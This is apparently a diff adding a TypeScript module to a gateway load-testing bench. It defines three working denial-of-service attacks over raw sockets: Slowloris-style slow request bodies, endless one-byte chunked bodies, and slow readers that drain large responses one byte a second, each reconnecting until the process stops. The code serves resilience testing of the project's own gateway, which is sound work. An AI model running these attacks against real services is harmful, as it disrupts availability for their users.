@@ -1,0 +1,108 @@
+import { connect, type OnReadOpts, type Socket } from 'node:net';
+import { largePath } from './upstream-paths.ts';
+
+/** What an attack aims at, and the credentials that it has. */
+export type Target = {
+  readonly origin: string;
+  /** Keys of accounts of the attacker's, one of each. */
+  readonly keys: readonly string[];
+  /** A key of an account that is over its limit. */
+  readonly exhaustedKey: string;
+};
+
+export type Attack = {
+  /** Settings of the gateway that is attacked, beside those that every gateway of the bench has. */
+  readonly settings?: Readonly<Record<string, string>>;
+  /** Begins the attack, in the attackers' process. It goes on until that process ends. */
+  readonly begin: (target: Target) => void;
+};
+
+/** How soon an attacker whose connection was closed connects again. */
+const reconnectAfterMs = 1_000;
+
+/** The attacks, by the names by which `bench attack` knows them. */
+export const attacks: Readonly<Record<string, Attack>> = {
+  /** 600 sockets of nine accounts send a body one byte at a time; 200 sockets of an account over its limit go on asking. */
+  'slow-bodies': {
+    begin: ({ origin, keys, exhaustedKey }) => {
+      for (let i = 0; i < 600; i += 1) {
+        const head = headOf('POST /v1/webhooks', origin, [
+          ...bearer(turn(keys, i)),
+          ...json,
+          'Content-Length: 90',
+        ]);
+        attackAgain(origin, (socket) => {
+          socket.write(`${head}{`);
+          const timer = setInterval(() => socket.write(' '), 2_000);
+          socket.once('close', () => clearInterval(timer));
+          socket.resume();
+        });
+      }
+      const request = headOf('GET /v1/signals', origin, bearer(exhaustedKey));
+      for (let i = 0; i < 200; i += 1) {
+        attackAgain(origin, (socket) => {
+          // After a pause of this process, intervals that were due fire together and stay together; random pauses spread them again.
+          const ask = () => {
+            socket.write(request);
+            timer = setTimeout(ask, 400 * Math.random());
+          };
+          let timer = setTimeout(ask, 400 * Math.random());
+          socket.once('close', () => clearTimeout(timer));
+          socket.resume();
+        });
+      }
+    },
+  },
+
+  /** 20 sockets without a key send bodies of 99,000 chunks of one byte each, and never finish them. */
+  'tiny-chunks': {
+    begin: ({ origin }) => {
+      const chunks = '1\r\nx\r\n'.repeat(99_000);
+      for (let i = 0; i < 20; i += 1) {
+        const target = i % 2 === 0 ? 'POST /account/session' : 'POST /v1/webhooks';
+        const request = headOf(target, origin, [...json, 'Transfer-Encoding: chunked']) + chunks;
+        attackAgain(origin, (socket) => {
+          socket.write(request);
+          socket.resume();
+        });
+      }
+    },
+  },
+
+  /** Sockets of nine accounts ask for 100 answers of 500 kB each, as many as an account may have open, and read one byte a second. */
+  'slow-readers': {
+    begin: ({ origin, keys }) => {
+      for (const key of keys) {
+        const requests = headOf(`GET ${largePath}`, origin, bearer(key)).repeat(100);
+        const readOneByte = (socket: Socket) => {
+          socket.write(requests);
+          const timer = setInterval(() => socket.resume(), 1_000);
+          socket.once('close', () => clearInterval(timer));
+        };
+        // With a buffer of Node's, the socket would read 64 kB at once.
+        attackAgain(origin, readOneByte, { onread: { buffer: Buffer.alloc(1), callback: () => false } });
+      }
+    },
+  },
+};
+
+const json = ['Content-Type: application/json'];
+const bearer = (key: string) => [`Authorization: Bearer ${key}`];
+const turn = (keys: readonly string[], index: number) => keys[index % keys.length] ?? '';
+
+function headOf(target: string, origin: string, headers: readonly string[]): string {
+  return [`${target} HTTP/1.1`, `Host: ${new URL(origin).host}`, ...headers, '', ''].join('\r\n');
+}
+
+/** Opens a connection, and another one a second after each end. */
+function attackAgain(
+  origin: string,
+  onOpen: (socket: Socket) => void,
+  options: { onread?: OnReadOpts } = {},
+): void {
+  const { hostname, port } = new URL(origin);
+  const socket = connect({ host: hostname, port: Number(port), noDelay: true, ...options });
+  socket.once('connect', () => onOpen(socket));
+  socket.on('error', () => undefined);
+  socket.once('close', () => setTimeout(attackAgain, reconnectAfterMs, origin, onOpen, options));
+}
